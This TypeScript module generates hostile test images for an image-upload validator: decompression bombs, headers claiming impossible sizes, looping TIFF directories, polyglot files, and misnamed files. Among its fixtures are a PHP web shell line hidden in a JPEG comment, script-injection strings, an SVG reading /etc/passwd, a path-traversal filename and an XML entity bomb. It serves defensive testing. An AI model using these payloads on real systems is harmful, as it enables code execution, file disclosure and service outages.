/** Small files that unfold into much, headers that promise the impossible, and files that are two things at once. */
import { deflateSync, gzipSync } from 'node:zlib'
import { iend, ihdr, pngOf, type TryPicture } from './picture.ts'
import { plain } from './sound.ts'

export async function bombs(): Promise<TryPicture[]> {
  const jpeg = await plain(64, 48).jpeg().toBuffer()
  const progressive = await plain(64, 48).jpeg({ progressive: true }).toBuffer()
  const png = await plain(64, 48).png().toBuffer()
  const gif = await plain(30, 20).gif().toBuffer()
  const webp = await plain(30, 20).webp().toBuffer()
  const tiff = await plain(30, 20).tiff({ compression: 'lzw' }).toBuffer()
  const avif = await plain(64, 48).avif({ effort: 0 }).toBuffer()
  const flat = deflateSync(Buffer.alloc(64 * 2 ** 20), { level: 9 })
  const text = (value: string) => Buffer.from(value, 'latin1')
  const bad = 'bad' as const
  const tooMany = { expect: bad, code: 'image-too-many-pixels' }
  const made: TryPicture[] = [
    // 900 megapixels of one colour in some kilobytes, in rows and interlaced
    {
      name: 'deep-900MP.png',
      bytes: pngOf([ihdr(30_000, 30_000, 8, 0), { type: 'IDAT', data: flat }, iend]),
      ...tooMany,
    },
    {
      name: 'deep-interlaced-95MP.png',
      bytes: pngOf([ihdr(9_700, 9_700, 8, 2, true), { type: 'IDAT', data: flat }, iend]),
      ...tooMany,
    },
    {
      name: 'deep-1bit-2GP.png',
      bytes: pngOf([ihdr(45_000, 45_000, 1, 0), { type: 'IDAT', data: flat }, iend]),
      ...tooMany,
    },
    {
      name: 'deep-49MP.png',
      bytes: pngOf([
        ihdr(7_000, 7_000, 8, 0),
        { type: 'IDAT', data: deflateSync(Buffer.alloc(7_001 * 7_000)) },
        iend,
      ]),
      expect: 'sound',
    },
    {
      name: 'interlaced-49MP-16bit.png',
      bytes: pngOf([
        ihdr(7_000, 7_000, 16, 6, true),
        { type: 'IDAT', data: deflateSync(Buffer.alloc(2 ** 28)) },
        iend,
      ]),
      expect: bad,
    },
    {
      name: 'huge-header.png',
      bytes: pngOf([ihdr(0x7fffffff, 0x7fffffff, 16, 6), { type: 'IDAT', data: flat }, iend]),
      expect: bad,
    },
    {
      name: 'zero-by-zero.png',
      bytes: pngOf([ihdr(0, 0, 8, 2), { type: 'IDAT', data: deflateSync(Buffer.alloc(9)) }, iend]),
      expect: bad,
    },
    {
      name: 'zero-high.png',
      bytes: pngOf([ihdr(10, 0, 8, 2), { type: 'IDAT', data: deflateSync(Buffer.alloc(9)) }, iend]),
      expect: bad,
    },
    { name: 'no-pixels.png', bytes: pngOf([ihdr(10, 10, 8, 2), iend]), expect: bad },
    {
      name: 'palette-missing.png',
      bytes: pngOf([ihdr(10, 10, 8, 3), { type: 'IDAT', data: deflateSync(Buffer.alloc(110)) }, iend]),
      expect: bad,
    },
    {
      name: 'impossible-depth.png',
      bytes: pngOf([ihdr(10, 10, 7, 2), { type: 'IDAT', data: deflateSync(Buffer.alloc(310)) }, iend]),
      expect: bad,
    },
    {
      name: 'text-bomb.png',
      bytes: pngOf([
        ihdr(8, 8, 8, 0),
        { type: 'zTXt', data: Buffer.concat([text('Comment\0\0'), flat, flat]) },
        { type: 'IDAT', data: deflateSync(Buffer.alloc(72)) },
        iend,
      ]),
    },
    {
      name: 'profile-bomb.png',
      bytes: pngOf([
        ihdr(8, 8, 8, 0),
        { type: 'iCCP', data: Buffer.concat([text('icc\0\0'), flat]) },
        { type: 'IDAT', data: deflateSync(Buffer.alloc(72)) },
        iend,
      ]),
    },
    {
      name: 'thousand-texts.png',
      bytes: pngOf([
        ihdr(8, 8, 8, 0),
        ...Array.from({ length: 20_000 }, (_, n) => ({
          type: 'tEXt',
          data: text(`k${n}\0${'x'.repeat(50)}`),
        })),
        { type: 'IDAT', data: deflateSync(Buffer.alloc(72)) },
        iend,
      ]),
    },
    { name: 'huge-size.jpg', bytes: sized(jpeg, 65_500, 65_500), expect: bad },
    { name: 'large-size.jpg', bytes: sized(jpeg, 30_000, 30_000), expect: bad },
    { name: 'zero-size.jpg', bytes: sized(jpeg, 0, 0), expect: bad },
    { name: 'one-high.jpg', bytes: sized(jpeg, 64, 1) },
    { name: 'many-scans.jpg', bytes: manyScans(sized(progressive, 6_000, 6_000), 4_000) },
    { name: 'many-scans-small.jpg', bytes: manyScans(progressive, 20_000) },
    {
      name: 'comments.jpg',
      bytes: Buffer.concat([
        jpeg.subarray(0, 2),
        ...Array.from({ length: 3_000 }, () => text(`\xff\xfe\x00\x12${'c'.repeat(16)}`)),
        jpeg.subarray(2),
      ]),
      expect: 'sound',
    },
    { name: 'huge-screen.gif', bytes: patched(gif, 6, [0xff, 0xff, 0xff, 0xff]) },
    { name: 'zero-screen.gif', bytes: patched(gif, 6, [0, 0, 0, 0]) },
    { name: 'frames-40000.gif', bytes: manyFrames(gif, 40_000) },
    { name: 'huge-canvas.webp', bytes: webpOf(16_383, 16_383, webp), expect: bad },
    { name: 'canvas-lies.webp', bytes: webpOf(31, 21, webp) },
    { name: 'huge-header.tif', bytes: tiffTags(tiff, { 256: 200_000, 257: 200_000 }), expect: bad },
    { name: 'zero-wide.tif', bytes: tiffTags(tiff, { 256: 0 }), expect: bad },
    { name: 'strip-lies.tif', bytes: tiffTags(tiff, { 278: 0xffffffff, 279: 0x7fffffff }) },
    { name: 'samples-65535.tif', bytes: tiffTags(tiff, { 277: 65_535 }), expect: bad },
    { name: 'turning-in-circles.tif', bytes: circle(tiff) },
    { name: 'huge-header.avif', bytes: avifSized(avif, 0x7fffffff, 0x7fffffff), expect: bad },
    { name: 'large-header.avif', bytes: avifSized(avif, 9_900, 9_900), expect: bad },
    // two things at once
    { name: 'page-after.jpg', bytes: Buffer.concat([jpeg, text('<html><script>alert(1)</script>')]) },
    {
      name: 'zip-after.jpg',
      bytes: Buffer.concat([
        jpeg,
        text('PK\x03\x04\x14\0\0\0\x08\0'),
        Buffer.alloc(100),
        text('PK\x05\x06'),
        Buffer.alloc(18),
      ]),
    },
    {
      name: 'script-inside.gif',
      bytes: Buffer.concat([text('GIF89a/*'), gif.subarray(8), text('*/=1;alert(1)')]),
    },
    { name: 'pdf-after.png', bytes: Buffer.concat([png, text('%PDF-1.7\n1 0 obj\n<<>>\nendobj\n%%EOF')]) },
    { name: 'jpeg-after.png', bytes: Buffer.concat([png, jpeg]) },
    {
      name: 'php-in-comment.jpg',
      bytes: Buffer.concat([
        jpeg.subarray(0, 2),
        text('\xff\xfe\0\x1f<?php system($_GET["x"]); ?>  '),
        jpeg.subarray(2),
      ]),
    },
    // not what the name says
    {
      name: 'svg.png',
      bytes: text('<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd"/></svg>'),
      expect: bad,
    },
    { name: 'page.jpg', bytes: text('<!doctype html><script>alert(1)</script>'), expect: bad },
    { name: 'pdf.jpg', bytes: text('%PDF-1.7\n1 0 obj\n<<>>\nendobj\n%%EOF'), expect: bad },
    {
      name: 'postscript.jpg',
      bytes: text('%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\nshowpage'),
      expect: bad,
    },
    {
      name: 'mvg.png',
      bytes: text(
        "push graphic-context\nviewbox 0 0 9 9\nfill 'url(https://127.0.0.1/x)'\npop graphic-context",
      ),
      expect: bad,
    },
    { name: 'gzip.jpg', bytes: gzipSync(Buffer.alloc(10 * 2 ** 20)), expect: bad },
    { name: 'elf.png', bytes: Buffer.concat([text('\x7fELF\x02\x01\x01'), Buffer.alloc(200)]), expect: bad },
    { name: 'png-as.jpg', bytes: png, expect: 'sound' },
    { name: 'jpeg-as.png', bytes: jpeg, expect: 'sound' },
    { name: 'gif-as.tif', bytes: gif, expect: 'sound' },
    { name: 'empty.png', bytes: new Uint8Array(), expect: bad },
    { name: 'one-byte.png', bytes: Uint8Array.of(0x89), expect: bad },
    { name: '..%2f..%2fetc%2fpasswd.png', bytes: png, expect: 'sound' },
    ...(await strangeExtras(jpeg, png)),
  ]
  return made
}

/** Profiles and notes that are nonsense; a picture with one may be taken, never may it break anything. */
async function strangeExtras(jpeg: Buffer, png: Buffer): Promise<TryPicture[]> {
  const noise = Buffer.from(Array.from({ length: 600 }, (_, i) => (i * 193 + (i >> 3)) & 255))
  const segment = (marker: number, body: Buffer) => {
    const head = Buffer.from([0xff, marker, 0, 0])
    head.writeUInt16BE(body.length + 2, 2)
    return Buffer.concat([jpeg.subarray(0, 2), head, body, jpeg.subarray(2)])
  }
  const exif = (body: Buffer) => segment(0xe1, Buffer.concat([Buffer.from('Exif\0\0', 'latin1'), body]))
  const loop = Buffer.from('II*\0\x08\0\0\0\x01\0\x69\x87\x04\0\x01\0\0\0\x08\0\0\0\x08\0\0\0', 'latin1')
  const count = Buffer.from('II*\0\x08\0\0\0\xff\xff\x12\x01\x03\0\xff\xff\xff\xff\x06\0\0\0', 'latin1')
  const turned = Buffer.from('II*\0\x08\0\0\0\x01\0\x12\x01\x03\0\x01\0\0\0\x63\0\0\0\0\0\0\0', 'latin1')
  const icc = Buffer.concat([Buffer.from('ICC_PROFILE\0\x01\x01', 'latin1'), noise])
  const xmp = Buffer.from(
    `http://ns.adobe.com/xap/1.0/\0<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "${'a'.repeat(200)}"><!ENTITY b "&a;&a;&a;&a;">]><x>&b;</x>`,
    'latin1',
  )
  const chunk = (type: string, data: Buffer) =>
    Buffer.concat([png.subarray(0, 33), pngOf([{ type, data }]).subarray(8), png.subarray(33)])
  return [
    { name: 'exif-noise.jpg', bytes: exif(noise) },
    { name: 'exif-circle.jpg', bytes: exif(loop) },
    { name: 'exif-count.jpg', bytes: exif(count) },
    { name: 'exif-orientation-99.jpg', bytes: exif(turned), expect: 'sound' },
    { name: 'exif-empty.jpg', bytes: exif(Buffer.alloc(0)) },
    { name: 'icc-noise.jpg', bytes: segment(0xe2, icc) },
    {
      name: 'icc-part-of-many.jpg',
      bytes: segment(0xe2, Buffer.concat([Buffer.from('ICC_PROFILE\0\x07\xff', 'latin1'), noise])),
    },
    { name: 'xmp-entities.jpg', bytes: segment(0xe1, xmp) },
    { name: 'exif-noise.png', bytes: chunk('eXIf', noise) },
    { name: 'icc-noise.png', bytes: chunk('iCCP', Buffer.concat([Buffer.from('x\0\0', 'latin1'), noise])) },
    { name: 'transparency-noise.png', bytes: chunk('tRNS', noise) },
    { name: 'physical-zero.png', bytes: chunk('pHYs', Buffer.alloc(9)) },
  ]
}

function patched(bytes: Buffer, at: number, values: readonly number[]): Buffer {
  const copy = Buffer.from(bytes)
  for (const [i, value] of values.entries()) copy[at + i] = value
  return copy
}

/** A JPEG whose frame header tells another size. */
function sized(jpeg: Buffer, width: number, height: number): Buffer {
  const copy = Buffer.from(jpeg)
  for (let at = 2; at + 9 < copy.length; at += 2 + copy.readUInt16BE(at + 2)) {
    const marker = copy[at + 1] ?? 0
    if (marker === 0xc0 || marker === 0xc2) {
      copy.writeUInt16BE(height, at + 5)
      copy.writeUInt16BE(width, at + 7)
      break
    }
  }
  return copy
}

/** The last scan of a progressive JPEG, many times over: each goes through the whole picture. */
function manyScans(jpeg: Buffer, times: number): Buffer {
  const last = jpeg.lastIndexOf(Buffer.from([0xff, 0xda]))
  const scan = jpeg.subarray(last, jpeg.length - 2)
  return Buffer.concat([
    jpeg.subarray(0, last),
    ...Array.from({ length: times }, () => scan),
    Buffer.from([0xff, 0xd9]),
  ])
}

function manyFrames(gif: Buffer, times: number): Buffer {
  const first = gif.indexOf(0x2c, 13)
  const frame = gif.subarray(first, gif.length - 1)
  const some = Math.min(times, Math.floor(40e6 / frame.length))
  return Buffer.concat([
    gif.subarray(0, first),
    ...Array.from({ length: some }, () => frame),
    Buffer.from(';'),
  ])
}

/** The simple picture inside an extended file with a canvas of its own. */
function webpOf(width: number, height: number, simple: Buffer): Buffer {
  const vp8x = Buffer.alloc(18)
  vp8x.write('VP8X', 0, 'latin1')
  vp8x.writeUInt32LE(10, 4)
  vp8x.writeUIntLE(width - 1, 12, 3)
  vp8x.writeUIntLE(height - 1, 15, 3)
  const body = Buffer.concat([Buffer.from('WEBP', 'latin1'), vp8x, simple.subarray(12)])
  const head = Buffer.from('RIFF\0\0\0\0', 'latin1')
  head.writeUInt32LE(body.length, 4)
  return Buffer.concat([head, body])
}

/** A little-endian TIFF with other values in its first directory. */
function tiffTags(tiff: Buffer, values: Readonly<Record<number, number>>): Buffer {
  const copy = Buffer.from(tiff)
  const start = copy.readUInt32LE(4)
  for (let n = 0; n < copy.readUInt16LE(start); n++) {
    const at = start + 2 + 12 * n
    const value = values[copy.readUInt16LE(at)]
    if (value === undefined) continue
    copy.writeUInt16LE(4, at + 2)
    copy.writeUInt32LE(1, at + 4)
    copy.writeUInt32LE(value, at + 8)
  }
  return copy
}

/** A TIFF whose first directory is also its next one. */
function circle(tiff: Buffer): Buffer {
  const copy = Buffer.from(tiff)
  const start = copy.readUInt32LE(4)
  copy.writeUInt32LE(start, start + 2 + 12 * copy.readUInt16LE(start))
  return copy
}

function avifSized(avif: Buffer, width: number, height: number): Buffer {
  const copy = Buffer.from(avif)
  const at = copy.indexOf('ispe', 0, 'latin1')
  if (at > 0) {
    copy.writeUInt32BE(width, at + 8)
    copy.writeUInt32BE(height, at + 12)
  }
  return copy
}
